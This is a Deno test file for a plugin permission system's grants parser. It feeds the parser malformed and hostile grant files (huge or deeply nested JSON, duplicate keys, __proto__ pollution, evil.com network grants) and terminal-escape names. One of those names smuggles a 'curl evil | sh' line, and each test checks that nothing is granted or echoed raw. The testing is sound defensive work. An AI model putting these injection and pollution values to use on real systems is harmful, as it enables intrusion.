/** Grant files as an attacker or an accident would write them: nothing is granted, and nothing reaches the terminal. */
import { assert, assertEquals, assertRejects, assertThrows } from "@std/assert";
import { editGrants, withoutValues } from "../../permissions/edit_grants.ts";
import { explainPermission } from "../../permissions/explain.ts";
import { parseGrants, readGrants } from "../../permissions/grants.ts";
import { CaissonError } from "../../runtime/errors/caisson_error.ts";
import { formatError } from "../../runtime/command/print_error.ts";
import type { Manifest } from "../../runtime/manifest/manifest.ts";
import { manifest, temporaryFolder } from "../manifest/plugin_folder.ts";

const entry = (text: string) => `{"grants":1,"plugins":{"@acme/p":${text}}}`;

for (
  const [what, text] of [
    ["10 MB", entry(`{"permissions":{"env":["${"A".repeat(10 << 20)}"]}}`)],
    [
      "a million entries",
      `{"grants":1,"plugins":{${Array.from({ length: 200_000 }, (_, n) => `"p${n}":{}`).join(",")}}}`,
    ],
    ["100,000 objects inside each other", entry('{"a":'.repeat(100_000))],
    ["100,000 lists inside each other", entry(`${"[".repeat(100_000)}${"]".repeat(100_000)}`)],
    ["a plugin twice", '{"grants":1,"plugins":{"@acme/p":{},"@acme/p":{"permissions":{"net":["evil.com"]}}}}'],
    ["a key twice, once escaped", entry('{"permissions":{"net":[],"n\\u0065t":["evil.com"]}}')],
    ["__proto__ among the plugins", '{"grants":1,"plugins":{"__proto__":{"permissions":{"net":["evil.com"]}}}}'],
    ["__proto__ among the permissions", entry('{"permissions":{"__proto__":{"net":["evil.com"]}}}')],
    ["constructor among the permissions", entry('{"permissions":{"constructor":["evil.com"]}}')],
    ["true", entry('{"permissions":{"net":true}}')],
    ["null", entry('{"permissions":{"net":null}}')],
    ["no list", entry('{"permissions":{"net":{"0":"evil.com","length":1}}}')],
    ["a wildcard in a flow", entry('{"flows":{"f":{"permissions":{"net":["*"]}}}}')],
    ["run in a flow", entry('{"flows":{"f":{"permissions":{"run":["sh"]}}}}')],
    ["an unknown key in a flow", entry('{"flows":{"f":{"permissions":{},"isolation":"native"}}}')],
    ["no JSON", "grants: 1"],
    ["comments", `// nothing\n${entry("{}")}`],
    ["something after the end", `${entry("{}")}{}`],
  ] as const
) {
  Deno.test(`a grant file with ${what} grants nothing`, async () => {
    await using folder = await temporaryFolder();
    const file = await folder.write("caisson.grants.json", text);
    const read = await assertRejects(() => readGrants(file), CaissonError);
    assert(/^CAISSON_GRANT_/.test(read.code), read.code);
    assert(formatError(read).length < 4_000);
    // An edit does not make a valid file of one that it does not understand.
    await assertRejects(() => editGrants({ file, plugin: "@acme/p", edit: () => ({}) }), CaissonError);
    assertEquals(await Deno.readTextFile(file), text);
  });
}

Deno.test("names with escape sequences and direction marks never reach the terminal as they are", async () => {
  await using folder = await temporaryFolder();
  for (const hostile of ["\u001b[2J", "\u009b31m", "\u202e", "\r", "a\nnext: curl evil | sh"]) {
    const name = JSON.stringify(`x${hostile}`);
    for (
      const text of [
        `{"grants":1,"plugins":{${name}:{"isolation":"x"}}}`,
        `{"grants":1,"plugins":{"p":{${name}:1}}}`,
        `{"grants":1,"plugins":{"p":{"permissions":{"net":[${name}]}}}}`,
        `{"grants":1,"plugins":{"p":{"flows":{${name}:{"permissions":{"net":["*"]}}}}}}`,
      ]
    ) {
      const file = await folder.write("caisson.grants.json", text);
      const shown = formatError(await assertRejects(() => readGrants(file), CaissonError));
      // deno-lint-ignore no-control-regex
      assert(!/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/.test(shown), JSON.stringify(shown));
      assertEquals(shown.split("\n").filter((line) => line.startsWith("  next:")).length, 1);
    }
  }
});

Deno.test("what every object has is no grant: constructor, toString, hasOwnProperty", async () => {
  const grants = parseGrants({ grants: 1, plugins: { p: { permissions: { net: ["a.com:1"] } } } }, "g.json");
  for (const name of ["constructor", "toString", "hasOwnProperty", "__proto__"]) {
    assertEquals(grants.plugins.get(name), undefined);
    const explained = await explainPermission({
      key: "net",
      value: "a.com:1",
      manifest: manifest({
        name: "p",
        permissions: { net: ["a.com:1"], reasons: { net: "r" } },
      }) as unknown as Manifest,
      manifestFile: "plugin.json",
      pluginFolder: "/p",
      grants,
      flow: name,
    });
    assertEquals(explained.allowed, true);
    const none = await explainPermission({
      key: name,
      value: "x",
      manifest: manifest() as unknown as Manifest,
      manifestFile: "plugin.json",
      pluginFolder: "/p",
      grants,
    });
    assertEquals(none.allowed, false);
  }
});

Deno.test("what is not granted as such cannot be taken back as such", () => {
  const error = assertThrows(
    () => withoutValues({ net: ["a.com"] }, new Map([["net", ["a.com:443"]]]), "g.json"),
    CaissonError,
  );
  assertEquals([error.code, error.allowed], ["CAISSON_GRANT_INVALID", "a.com"]);
});

Deno.test("edits at the same time lose none of each other", async () => {
  await using folder = await temporaryFolder();
  const file = `${folder.path}/caisson.grants.json`;
  await Promise.all(
    Array.from(
      { length: 20 },
      (_, n) => editGrants({ file, plugin: `p${n}`, edit: () => ({ permissions: { env: [`V${n}`] } }) }),
    ),
  );
  assertEquals((await readGrants(file)).plugins.size, 20);
});
